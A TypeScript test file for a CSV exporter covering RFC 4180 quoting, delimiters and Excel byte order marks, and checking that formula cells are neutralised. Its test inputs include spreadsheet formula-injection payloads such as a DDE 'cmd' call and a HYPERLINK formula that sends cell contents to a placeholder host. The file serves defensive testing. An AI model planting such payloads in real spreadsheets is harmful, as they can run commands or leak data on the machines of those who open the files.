import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/formats/csv.ts';
import { visible } from '../../src/formats/escape.ts';
import { harmIn } from './harm.ts';
import { isFormula, readCsv } from './rfc4180.ts';
import { anyText } from './scripts.ts';

const csv = (...rows: readonly (readonly (string | number | boolean | null)[])[]): string =>
  [...toCsv({ columns: ['issue', 'point'], rows })].join('');

/** What an apostrophe is put before: a formula, or one that stands behind apostrophes of its own. */
function isGuarded(text: string): boolean {
  const behind = text.replace(/^'+/u, '');
  return isFormula(text) || (behind !== text && isFormula(`${behind} `));
}

describe('a table in CSV', () => {
  it('has a line of heads and a line a row, each ended as RFC 4180 asks', () => {
    expect(csv(['pay', 4.5], ['canteen', null], ['shifts', true])).toBe(
      'issue,point\r\npay,4.5\r\ncanteen,\r\nshifts,true\r\n',
    );
  });

  it('is its heads alone where there is no row', () => {
    expect(csv()).toBe('issue,point\r\n');
  });

  it('quotes what would end a cell, and blanks at its ends', () => {
    expect(csv(['a "b", c', ' d '])).toBe('issue,point\r\n"a ""b"", c"," d "\r\n');
  });

  it('keeps line feeds and tabs inside quotes', () => {
    expect(readCsv(csv(['a\nb', 'c\td']))[1]).toEqual(['a\nb', 'c\td']);
  });

  it.each(
    [
      ["=cmd|'/c calc'!A1", '=HYPERLINK("http://x/"&A1,"ok")', '-1+1', '+1', '@SUM(1)', '\t=1', ' =1'],
      ['\n=1', '\r=1', '\u0000=1', '＝1', '＋1', '－1', '＠x'],
      ['\ufeff=1', '\u00a0=1', '\u3000=1', '- a list'],
    ].flat(),
  )('takes %j for text', (formula) => {
    const [cell = ''] = readCsv(csv([formula, '']))[1] ?? [];
    expect(isFormula(cell)).toBe(false);
    expect([visible(formula), `'${visible(formula)}`]).toContain(cell);
  });

  it('leaves a number a number', () => {
    expect(csv([-5, -0.5])).toBe('issue,point\r\n-5,-0.5\r\n');
  });

  it.each(['-10', '-0.5', '1e5', '-1E-7', '007'])('leaves a text a number that is wholly %s', (text) => {
    expect(csv([text, ''])).toBe(`issue,point\r\n${text},\r\n`);
  });

  it.each(['-10 pp', '-10..5', '-10; 5', '-1e', '-.5', '-1-1', '- 1', '+1', '+49 30'])(
    'takes %s for text, for it is no number from end to end',
    (text) => {
      expect(csv([text, ''])).toBe(`issue,point\r\n'${text},\r\n`);
    },
  );

  it.each([
    [',', 'a;b,"a,b","a\tb"\r\n'],
    [';', '"a;b";a,b;"a\tb"\r\n'],
    ['tab', 'a;b\ta,b\t"a\tb"\r\n'],
  ] as const)('is parted by %s, and what holds that is quoted', (delimiter, line) => {
    const sheet = { columns: ['a;b', 'a,b', 'a\tb'], rows: [] };
    expect([...toCsv(sheet, undefined, { delimiter, excel: false })]).toEqual([line]);
  });

  it('for Excel has a byte order mark once', () => {
    const sheet = { columns: ['issue'], rows: [['工資']] };
    const text = [...toCsv(sheet, undefined, { delimiter: ',', excel: true })].join('');
    expect(text).toBe('\ufeffissue\r\n工資\r\n');
  });

  it('reads back as the same text, but for escapes and the apostrophe of a formula', () => {
    const rows = fc.array(fc.tuple(anyText, fc.oneof(anyText, fc.integer(), fc.constant(null))), {
      maxLength: 4,
    });
    fc.assert(
      fc.property(rows, (some) => {
        const text = csv(...some);
        expect(harmIn(text.replaceAll('\r\n', '\n'))).toEqual([]);
        const [heads, ...read] = readCsv(text);
        expect(heads).toEqual(['issue', 'point']);
        const expected = some.map((row) =>
          row.map((value) => {
            const said = visible(String(value ?? ''));
            return typeof value === 'string' && isGuarded(said) ? `'${said}` : said;
          }),
        );
        expect(read).toEqual(expected);
      }),
    );
  });
});
